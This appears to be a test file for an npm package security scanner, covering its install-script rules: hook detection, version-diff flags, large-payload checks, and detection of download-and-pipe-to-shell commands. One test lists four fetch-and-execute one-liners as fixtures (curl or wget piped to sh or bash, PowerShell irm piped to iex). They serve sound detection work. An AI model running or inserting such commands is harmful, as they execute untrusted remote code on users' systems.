import { analyze, findingsOf } from '../__fixtures__/package-builder';

describe('install-script rules', () => {
  it('reports each install hook: info for build tools, low otherwise; prepare is not install-time', () => {
    const report = analyze({ manifest: { scripts: { preinstall: 'node check.js', install: 'node-gyp rebuild', prepare: 'husky', test: 'jest' } }, files: { 'check.js': '' } });
    const present = findingsOf(report, 'install-script.present');
    expect(present.map((f) => [f.message.split(':')[0], f.severity])).toEqual([
      ['preinstall script', 'low'],
      ['install script', 'info'],
    ]);
    expect(present[0].evidence).toEqual({ file: 'package/package.json', line: 5, snippet: '"preinstall": "node check.js"' });
    expect(report.verdict).toBe('clean');
  });

  it('models the implicit node-gyp rebuild of a root binding.gyp', () => {
    const report = analyze({ files: { 'binding.gyp': "{ 'targets': [] }" } });
    expect(findingsOf(report, 'install-script.implicit-node-gyp')).toHaveLength(1);
    expect(findingsOf(analyze({ manifest: { scripts: { install: 'node x.js' } }, files: { 'binding.gyp': '{}', 'x.js': '' } }), 'install-script.implicit-node-gyp')).toHaveLength(0);
  });

  it('flags a hook that is new against the previous version: medium, high in a patch release', () => {
    const minor = analyze({ version: '1.3.0', manifest: { scripts: { postinstall: 'node p.js' } }, files: { 'p.js': '' }, previous: { version: '1.2.9' } });
    expect(findingsOf(minor, 'install-script.added')[0].severity).toBe('medium');
    const patch = analyze({ version: '1.2.10', manifest: { scripts: { install: 'node p.js' } }, files: { 'p.js': '' }, previous: { version: '1.2.9' } });
    expect(findingsOf(patch, 'install-script.added')[0]).toMatchObject({ severity: 'high', category: 'install-script' });
    expect(patch.verdict).toBe('warn');
  });

  it('flags a changed hook command and stays quiet when it is unchanged', () => {
    const changed = analyze({ version: '2.0.1', manifest: { scripts: { postinstall: 'node b.js' } }, files: { 'b.js': '' }, previous: { version: '2.0.0', manifest: { scripts: { postinstall: 'node a.js' } } } });
    expect(findingsOf(changed, 'install-script.changed')[0].message).toContain('was "node a.js", now "node b.js"');
    const same = analyze({ version: '2.0.1', manifest: { scripts: { postinstall: 'node a.js' } }, files: { 'a.js': '' }, previous: { version: '2.0.0', manifest: { scripts: { postinstall: 'node a.js' } } } });
    expect(same.findings.filter((f) => f.rule.startsWith('install-script.added') || f.rule === 'install-script.changed')).toEqual([]);
  });

  it('flags download-and-pipe into an interpreter, in any spelling', () => {
    for (const command of ['curl -fsSL https://x.invalid/i.sh | sh', 'wget -qO- https://x.invalid/i | sudo bash', 'bash -c "$(curl -fsSL https://x.invalid/i)"', 'powershell -c "irm https://x.invalid/i.ps1 | iex"']) {
      expect(findingsOf(analyze({ manifest: { scripts: { preinstall: command } } }), 'install-script.pipe-to-shell')).toHaveLength(1);
    }
  });

  it('flags multi-megabyte JavaScript run at install time', () => {
    const big = `var a = ${JSON.stringify('x'.repeat(100))};\n`.repeat(12_000);
    const report = analyze({ manifest: { scripts: { postinstall: 'node bundle.js' } }, files: { 'bundle.js': big } });
    expect(findingsOf(report, 'install-script.large-payload')[0].severity).toBe('low');
    const behindNewHook = analyze({ version: '2.0.1', manifest: { scripts: { postinstall: 'node bundle.js' } }, files: { 'bundle.js': big }, previous: { version: '2.0.0' } });
    expect(findingsOf(behindNewHook, 'install-script.large-payload')[0].severity).toBe('medium');
    expect(findingsOf(analyze({ files: { 'bundle.js': big } }), 'install-script.large-payload')).toHaveLength(0);
  });
});
